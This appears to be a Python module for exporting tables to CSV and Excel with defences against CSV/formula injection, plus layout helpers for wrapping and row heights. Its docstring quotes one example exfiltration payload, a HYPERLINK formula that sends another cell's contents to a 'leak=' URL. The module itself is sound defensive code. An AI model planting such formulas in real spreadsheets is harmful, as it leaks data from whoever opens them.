"""Rows written to CSV and Excel so that opening them runs nothing (OWASP, CSV injection).

A list cell may begin with `=`, `+`, `-`, `@`, a tab or a carriage return: a spreadsheet would read it as a
formula (`=HYPERLINK("http://…?leak="&C2, …)`). In Excel such a cell is written as a text cell, its text
unchanged; in CSV, which has no cell types, it is prefixed with an apostrophe.
"""

from __future__ import annotations

import csv
import math
import unicodedata
from collections.abc import Iterable
from pathlib import Path
from typing import Any

from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
LINE_POINTS = 15  # the height of one line of 11-point text


def csv_cell(value: Any) -> Any:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def append_text_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """sheet.append, but a string is always a text cell, never a formula."""
    sheet.append([v.item() if hasattr(v, "item") else v for v in values])  # numpy ints -> int for openpyxl
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type != "s":
            cell.data_type = "s"


def write_csv_table(path: Path, header: list[str], rows: Iterable[Iterable[Any]]) -> Path:
    """A plain CSV table, UTF-8 with a BOM (so Excel reads it as UTF-8), every cell through csv_row."""
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(csv_row(header))
        writer.writerows(csv_row(line) for line in rows)
    return path


def display_width(text: str) -> int:
    """Columns the text's longest line takes in a spreadsheet: a CJK character counts two."""
    return max((_line_width(line) for line in text.splitlines()), default=0)


def _line_width(line: str) -> int:
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in line)


def wrapped_lines(text: str, width: float) -> int:
    """How many lines the text takes wrapped in a column `width` wide."""
    inner = max(width - 1, 1)  # a cell's padding
    return sum(max(1, math.ceil(_line_width(line) / inner)) for line in text.split("\n"))


def format_table(sheet: Worksheet, header_row: int, widths: list[float]) -> None:
    """The rows from `header_row` down wrapped and top-aligned, each as tall as its wrapped text (spreadsheets
    do not measure rows they open), that row bold and frozen, widths set."""
    wrap = Alignment(wrap_text=True, vertical="top")
    for row in sheet.iter_rows(min_row=header_row):
        for cell in row:
            cell.alignment = wrap
        lines = max((wrapped_lines(str(c.value), w) for c, w in zip(row, widths, strict=False)
                     if c.value is not None), default=1)
        sheet.row_dimensions[row[0].row].height = LINE_POINTS * lines
    for cell in sheet[header_row]:
        cell.font = Font(bold=True)
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = f"A{header_row + 1}"
